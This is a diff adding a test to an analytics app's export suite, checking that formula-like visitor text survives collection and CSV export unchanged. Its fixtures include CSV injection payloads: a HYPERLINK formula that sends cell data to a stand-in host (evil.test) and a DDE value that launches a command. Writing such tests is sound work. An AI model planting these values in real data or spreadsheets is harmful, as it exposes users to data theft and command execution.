@@ -13,6 +13,7 @@ import { runMaintenance } from '../../server/core/maintenance.ts';
 import type { Site } from '../../server/core/sites.ts';
 import { runCli } from '../../server/node/cli.ts';
 import { parseCsv, unzip } from '../helpers/privacy-zip.ts';
+import { sendEvent } from '../helpers/server.ts';
 import { addSite, insertVisitWithEvents } from '../core/query/store.ts';
 import { startStatsServer, type StatsServer } from './stats-server.ts';
 
@@ -174,6 +175,26 @@ describe('export', () => {
     if (existsSync('/usr/bin/unzip')) expect(execFileSync('/usr/bin/unzip', ['-t', file]).toString()).toContain('No errors detected');
     expect(await runCli(['export', '--site', site.domain, '--from', '2024-13-01', join(dir, 'bad.zip')], io)).toBe(2);
     expect(existsSync(join(dir, 'bad.zip'))).toBe(false);
+  });
+
+  it('keeps formula-like visitor text exact, as an import needs it, through collection and export', async () => {
+    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"x")';
+    const tags = { utm_source: '@SUM(1+1)', utm_medium: '+cmd', utm_campaign: formula, utm_content: "=cmd|' /C calc'!A0", utm_term: '-2+3' };
+    await addSite(server.db, 'formula.example', 'Europe/Oslo');
+    const page = `https://formula.example/landing?${new URLSearchParams(tags)}`;
+    expect((await sendEvent(server, { n: 'pageview', u: page, d: 'formula.example' })).status).toBe(202);
+    expect((await sendEvent(server, { n: formula, u: page, d: 'formula.example', p: { plan: '=1+1' } })).status).toBe(202);
+
+    const res = await fetch(`${server.url}/api/v1/sites/formula.example/export?from=2024-03-12&to=2024-03-12`, { headers: { authorization: `Bearer ${ADMIN}` } });
+    expect(res.status).toBe(200);
+    const exported = unzip(new Uint8Array(await res.arrayBuffer()));
+    const file = (table: string) => exported.get(`${table}_20240312_20240312.csv`)!;
+    const event = parseCsv(file('events')).rows.find((r) => r.name === formula)!;
+    expect(event).toMatchObject({ ...tags, search_keyword: '-2+3', props: '{"plan":"=1+1"}' });
+    expect(parseCsv(file('imported_custom_events')).rows.map((r) => r.name)).toEqual([formula]);
+    expect(parseCsv(file('imported_sources')).rows).toEqual([expect.objectContaining(tags)]);
+    // Quoted only as RFC 4180 needs, with no ' added: the cell is the value.
+    expect(file('imported_custom_events')).toContain(`\r\n2024-03-12,"=HYPERLINK(""http://evil.test/?x=""&A1,""x"")",,,1,1\r\n`);
   });
 
   it('answers bad input with a 4xx naming it', async () => {
